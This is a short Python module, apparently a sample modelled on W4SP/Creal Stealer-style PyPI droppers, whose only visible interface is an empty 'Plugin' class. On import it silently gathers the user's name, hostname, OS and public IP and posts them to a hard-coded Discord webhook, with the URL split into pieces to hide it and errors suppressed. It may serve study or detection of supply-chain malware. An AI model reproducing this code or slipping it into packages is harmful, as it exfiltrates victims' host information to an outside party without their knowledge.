# Inspired by W4SP / 'Creal Stealer' PyPI droppers (2022-2023) that post an embed with victim host info to a hard-coded Discord webhook.
import getpass
import json
import platform
import socket
import urllib.request

_P = ["https:", "", "discord.com", "api", "webhooks", "5356406642608450566",
      "dcFAlH0MifDCErbdNC_bWlZkrcTxE_Vqjv53o0SpMMkUG4Mf9dIHsOWcAudNIHNpnunw"]
_HOOK = "/".join(_P)


def _fingerprint():
    return {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "os": platform.platform(),
        "ip": urllib.request.urlopen("https://ip.example.com", timeout=3).read().decode(),
    }


def _send(info):
    embed = {"title": "new hit", "fields": [{"name": k, "value": str(v), "inline": True} for k, v in info.items()]}
    body = json.dumps({"username": "grabber", "embeds": [embed]}).encode()
    req = urllib.request.Request(_HOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req, timeout=5)


try:
    _send(_fingerprint())
except Exception:
    pass


class Plugin:
    pass
